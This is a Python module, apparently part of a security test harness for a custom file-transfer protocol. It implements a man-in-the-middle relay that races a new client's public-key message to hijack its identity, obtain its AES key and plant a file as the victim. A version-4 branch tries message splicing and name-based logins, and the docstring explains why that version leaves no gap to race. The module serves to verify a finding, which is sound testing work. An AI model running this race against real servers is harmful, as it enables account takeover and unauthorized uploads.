"""Claim a new client's identity by sending its 826 first, from another connection.

Between 1600 (id assigned) and 826 (public key) a new client generates its RSA key and
writes me.info: tens of milliseconds. The name (825) and the id (1600) cross the network
in the clear. Our server accepts an 826 on any connection as long as the id is known,
the name matches and no key is stored yet (a client "may send its key on a later
connection"), so whoever sends the first 826 owns the identity: it receives the AES
key (1602), can upload as the victim now and reconnect as it forever, while the
victim's own 826 is refused (1607 four times) and its client gives up.

This runs as a relay that changes nothing: as soon as it sees a 1600 it sends its own
826 on a new connection, and only then forwards the 1600, so it always wins. With
``--passive`` it forwards at once, as a mere tap would, and wins whenever its 826
arrives before the victim has generated its RSA key (in our runs, by 15-20 ms).
``--plant`` then uploads a file into the victim's directory with the stolen identity.

``--protocol 4``: there is no gap to race. The client id is derived from the static key
and the key is proven in the same message (3) that registers the name, so there is no
key to claim after the fact. The relay holds the victim's message 3 back and, before
forwarding it, tries what is left: the victim's own message 3 spliced onto a handshake
of ours (it was encrypted for the victim's handshake: the server closes), and a log-in
as the victim's name (``--name``: version 4 encrypts it) with our own key (1606). After
the victim's 1600 it tries to register that name with our key (1601). Registering the
name *before* the victim does would succeed, as it does for any free name: that is
name squatting (EFT-13), and it gives the name, not the victim's identity.
"""

from __future__ import annotations

import argparse
import asyncio
import time

from eft_protocol import crypto
from eft_protocol.codes import RequestCode, ResponseCode

from .common import AttackError, Out, ServerLink, add_listen_argument, add_target_argument
from .framing import Frame, name_request, one_packet_attempt, raw_string, request
from .proxy import Interceptor, MitmConnection, MitmProxy
from .v4 import CLOSED, V4Client, add_protocol_argument, login, register, wait_closed

FINDING = "EFT-03"
SUMMARY = "race a new client's 826 from another connection and own its identity"


def add_arguments(parser: argparse.ArgumentParser) -> None:
    add_target_argument(parser)
    add_listen_argument(parser)
    parser.add_argument("--plant", default="planted.txt", help="file to upload as the victim")
    parser.add_argument(
        "--passive",
        action="store_true",
        help="forward the 1600 at once and race the victim's key generation (default: "
        "forward it once our 826 is sent, which always wins)",
    )
    parser.add_argument("--name", help="version 4: the victim's name (encrypted on the wire)")
    add_protocol_argument(parser)


class Race(Interceptor):
    def __init__(self, out: Out, target: str, plant: str, passive: bool) -> None:
        self.out, self.target, self.plant, self.passive = out, target, plant, passive
        self.sent = asyncio.Event()
        self.key = crypto.generate_rsa_key()  # ready before any victim shows up
        self.claim: asyncio.Task[dict[str, object]] | None = None
        self.victim_826_answer: int | None = None
        self.victim_826_at: float | None = None
        self.seen_1600 = 0.0

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        if frame.code == RequestCode.REGISTER:
            conn.scratch["name"] = frame.name_field()
        if frame.code == RequestCode.SEND_PUBLIC_KEY and self.victim_826_at is None:
            self.victim_826_at = round(time.monotonic() - self.seen_1600, 4)
            conn.scratch["victim_826"] = True
        await conn.to_server(frame.raw)

    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
        if frame.code == ResponseCode.REGISTERED and self.claim is None:
            self.seen_1600 = time.monotonic()
            victim_id, name = frame.payload[:16], conn.scratch["name"]
            self.claim = asyncio.create_task(self._claim(victim_id, name))
            if not self.passive:
                await self.sent.wait()  # our 826 is on its way before the victim's can be
        elif "victim_826" in conn.scratch and self.victim_826_answer is None:
            self.victim_826_answer = frame.code
        await conn.to_client(frame.raw)

    async def _claim(self, victim_id: bytes, name: str) -> dict[str, object]:
        try:
            link = await ServerLink.open(self.target)
        except AttackError:
            self.sent.set()
            raise
        try:
            payload = raw_string(name) + crypto.public_key_der(self.key)
            await link.send(request(victim_id, RequestCode.SEND_PUBLIC_KEY, payload))
            self.sent.set()
            answer = await link.receive()
            elapsed = round(time.monotonic() - self.seen_1600, 4)
            if answer.code != ResponseCode.PUBLIC_KEY_ACCEPTED:
                return {"claimed": False, "answer": answer.code, "after_s": elapsed}
            aes_key = crypto.unwrap_aes_key(self.key, answer.payload[16:])
            self.out.step(f"our 826 for {name!r} won: 1602", after_s=elapsed, aes_key=aes_key)
            content = f"planted by the attacker as {name}\n".encode()
            ciphertext = crypto.encrypt_file_bytes(aes_key, content)
            await link.send(one_packet_attempt(victim_id, self.plant, ciphertext))
            stored = (await link.receive()).code == ResponseCode.FILE_RECEIVED
            if stored:
                await link.send(name_request(victim_id, RequestCode.CRC_OK, self.plant))
                stored = (await link.receive()).code == ResponseCode.ACKNOWLEDGED
            return {"claimed": True, "after_s": elapsed, "planted": stored, "client_id": victim_id}
        finally:
            self.sent.set()
            await link.close()

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.close_server()
        self.proxy.finish(True)


class RaceV4(Interceptor):
    """Hold the victim's message 3 and try to take its identity first."""

    def __init__(self, out: Out, target: str, name: str | None) -> None:
        self.out, self.target, self.name = out, target, name
        self.attempts: dict[str, int] = {}
        self.victim_answer: int | None = None
        self.victim_id: bytes | None = None
        self.claimed: list[str] = []

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        count = conn.scratch["requests"] = conn.scratch.get("requests", 0) + 1
        if count == 2 and frame.code == RequestCode.REGISTER and not self.attempts:
            conn.scratch["victim"] = True
            await self._before(frame)
        elif count == 3 and conn.scratch.get("victim"):
            self.victim_id = frame.client_id  # in the clear in every record header
        await conn.to_server(frame.raw)

    async def _before(self, message_3: Frame) -> None:
        self.out.step("holding the victim's message 3 (825: a registration)")
        spliced = await V4Client.open(self.target)
        try:
            await spliced.hello()
            await spliced.link.send(message_3.raw)
            closed, frames = await wait_closed(spliced.link)
            self.attempts["spliced_message_3"] = CLOSED if closed and not frames else frames
        finally:
            await spliced.close()
        if self.name:
            client, code = await login(self.target, self.name)
            await client.close()
            self.attempts["login_as_name_before"] = code
        self.out.step("tried to take the identity before the victim", **self.attempts)

    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
        first_record = conn.scratch.get("victim") and self.victim_answer is None
        if first_record and conn.scratch.get("requests", 0) >= 2:
            self.victim_answer = frame.code
            await conn.to_client(frame.raw)
            if self.name:
                client, code = await register(self.target, self.name)
                await client.close()
                self.attempts["register_name_after"] = code
                client, code = await login(self.target, self.name)
                await client.close()
                self.attempts["login_as_name_after"] = code
                self.out.step("tried the victim's name with our key", **self.attempts)
            return
        await conn.to_client(frame.raw)

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.close_server()
        if conn.scratch.get("victim"):
            self.proxy.finish(True)


async def run_v4(args: argparse.Namespace, out: Out) -> bool:
    race = RaceV4(out, args.target, args.name)
    await MitmProxy(args.target, race, out).run(args.listen, args.timeout)
    if not race.attempts:
        raise AttackError("no registration (message 3 with 825) went by")
    granted = [k for k, code in race.attempts.items() if code not in (CLOSED, 1601, 1606)]
    fields = {
        "attempts": race.attempts,
        "victim_answer": race.victim_answer,
        "client_id": race.victim_id,
    }
    if granted:
        return out.result(True, f"the server granted {granted}", **fields)
    return out.result(
        False,
        "nothing to claim: the victim's spliced message 3 was closed on, its name with "
        f"our key got {race.attempts.get('login_as_name_after', '-')} and "
        f"{race.attempts.get('register_name_after', '-')}; the victim registered "
        f"({race.victim_answer})",
        **fields,
    )


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.protocol == 4:
        return await run_v4(args, out)
    race = Race(out, args.target, args.plant, args.passive)
    await MitmProxy(args.target, race, out).run(args.listen, args.timeout)
    if race.claim is None:
        raise AttackError("no registration (1600) went by")
    outcome = await race.claim
    victim = {
        "victim_826_after_s": race.victim_826_at,
        "victim_826_answer": race.victim_826_answer,
    }
    if not outcome["claimed"]:
        return out.result(False, "the server refused our 826 for the victim", **outcome, **victim)
    return out.result(
        True,
        f"we own the victim's identity (1602 {outcome['after_s']} s after its 1600); "
        f"its own 826 got {race.victim_826_answer}",
        **outcome,
        **victim,
    )
